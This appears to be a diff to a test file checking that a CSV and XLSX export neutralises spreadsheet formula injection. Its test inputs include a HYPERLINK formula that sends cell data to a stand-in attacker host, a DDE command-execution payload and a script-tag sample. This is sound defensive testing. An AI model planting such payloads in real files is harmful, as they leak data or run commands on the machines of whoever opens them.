@@ -1,6 +1,5 @@
 import assert from 'node:assert/strict';
 import { after, before, describe, it } from 'node:test';
-import { inertCell } from '@tejido/contract';
 import { sql } from 'kysely';
 import { csvLine } from '../src/review/export/csv.ts';
 import { makeTemplate } from './support/app.ts';
@@ -8,34 +7,36 @@ import { desk, openDesk, type TestDesk, versions } from './support/desk.ts';
 import { startTestPostgres, type TestPostgres } from './support/postgres.ts';
 import { parseCsv, readWorkbook } from './support/tables.ts';
 
-/** What spreadsheet programs take for formulas, what breaks lines and columns, and what XML cannot hold. */
-const nasty = [
-  '=1+1',
-  '=HYPERLINK("https://evil.example/?"&A1,"ver")',
-  "=cmd|'/c calc'!A0",
-  '+52 612 123 4567',
-  '-2+3',
-  '@SUM(1)',
-  '  =1+1',
-  '＝1+1',
-  '＋1',
-  '－1',
-  '＠SUM(1)',
-  '\t=1+1',
-  'uno;dos,"tres"\ncuatro',
-  '"; =1+1',
-  'uno;=1+1',
-  'uno;"=1+1";dos',
-  'uno\n@SUM(1)\r\n+1',
-  "'=1+1",
-  '<script>alert(1)</script>&amp;',
-  ']]>',
-  '_x0041_ y _x000D_',
-  'عربي ‏=1',
-  '🦋 水',
-  '00123',
-  '1e5',
-];
+/** What spreadsheet programs take for formulas, what breaks lines and columns, and what XML cannot hold; each with its cell in the file of CSV. */
+const nasty = new Map([
+  ['=1+1', "'=1+1"],
+  ['=HYPERLINK("https://evil.example/?"&A1,"ver")', '\'=HYPERLINK("https://evil.example/?"&A1,"ver")'],
+  ["=cmd|'/c calc'!A0", "'=cmd|'/c calc'!A0"],
+  ['+52 612 123 4567', "'+52 612 123 4567"],
+  ['-2+3', "'-2+3"],
+  ['@SUM(1)', "'@SUM(1)"],
+  ['  =1+1', "'  =1+1"],
+  ['＝1+1', "'＝1+1"],
+  ['＋1', "'＋1"],
+  ['－1', "'－1"],
+  ['＠SUM(1)', "'＠SUM(1)"],
+  ['\t=1+1', "'\t'=1+1"],
+  ['\n=1+1', "'\n'=1+1"],
+  ['uno;dos,"tres"\ncuatro', 'uno;dos,"tres"\ncuatro'],
+  ['"; =1+1', '";\' =1+1'],
+  ['uno;=1+1', "uno;'=1+1"],
+  ['uno;"=1+1";dos', 'uno;\'"=1+1";dos'],
+  ['uno\t-1', "uno\t'-1"],
+  ['uno\n@SUM(1)\r\n+1', "uno\n'@SUM(1)\r\n'+1"],
+  ["'=1+1", "'=1+1"],
+  ['<script>alert(1)</script>&amp;', '<script>alert(1)</script>&amp;'],
+  [']]>', ']]>'],
+  ['_x0041_ y _x000D_', '_x0041_ y _x000D_'],
+  ['عربي ‏=1', 'عربي ‏=1'],
+  ['🦋 水', '🦋 水'],
+  ['00123', '00123'],
+  ['1e5', '1e5'],
+]);
 
 describe('the file of join requests', () => {
   let postgres: TestPostgres;
@@ -48,7 +49,7 @@ describe('the file of join requests', () => {
       postgres,
       await makeTemplate(postgres),
     );
-    for (const message of nasty) await office.join({ message, place: 'La Paz' });
+    for (const message of nasty.keys()) await office.join({ message, place: 'La Paz' });
     // Another branch of the form sends answers to the network's own questions.
     await sql`
       update join_requests
@@ -77,12 +78,12 @@ describe('the file of join requests', () => {
     const file = await fileAt('csv');
     assert.deepEqual([...file.subarray(0, 3)], [0xef, 0xbb, 0xbf]);
     const [headings = [], ...rows] = parseCsv(file.toString('utf8').slice(1));
-    assert.equal(rows.length, nasty.length + 1);
+    assert.equal(rows.length, nasty.size + 1);
     assert.ok(rows.every((row) => row.length === headings.length));
     const cells = rows.flat();
     for (const cell of cells) assert.doesNotMatch(cell, /^[\t\r\n]|^\s*[=+\-@＝＋－＠]/u);
     const messages = rows.map((row) => row[headings.indexOf('message')] ?? '');
-    for (const text of nasty) assert.ok(messages.includes(inertCell(text)), text);
+    for (const cell of nasty.values()) assert.ok(messages.includes(cell), cell);
     const answered = rows.find((row) => row[headings.indexOf('answers.size')] !== '');
     assert.equal(answered?.[headings.indexOf('answers.size')], "'=9+9");
     assert.equal(answered?.[headings.indexOf('answers.topics')], 'agua, suelo');
@@ -105,11 +106,11 @@ describe('the file of join requests', () => {
 
   it('is a workbook whose cells are all texts', async () => {
     const [headings = [], ...rows] = await readWorkbook(await fileAt('xlsx'));
-    assert.equal(rows.length, nasty.length + 1);
+    assert.equal(rows.length, nasty.size + 1);
     const cells = rows.flat().filter((cell) => cell !== null);
     assert.ok(cells.every((cell) => typeof cell === 'string'));
     const messages = rows.map((row) => row[headings.indexOf('message')] as string);
-    for (const text of nasty)
+    for (const text of nasty.keys())
       assert.ok(
         messages.some((message) => message.trim() === text.trim() || message === text.replaceAll('_x0', '_x005F_x0')),
         `${text} in ${messages.join('\n')}`,
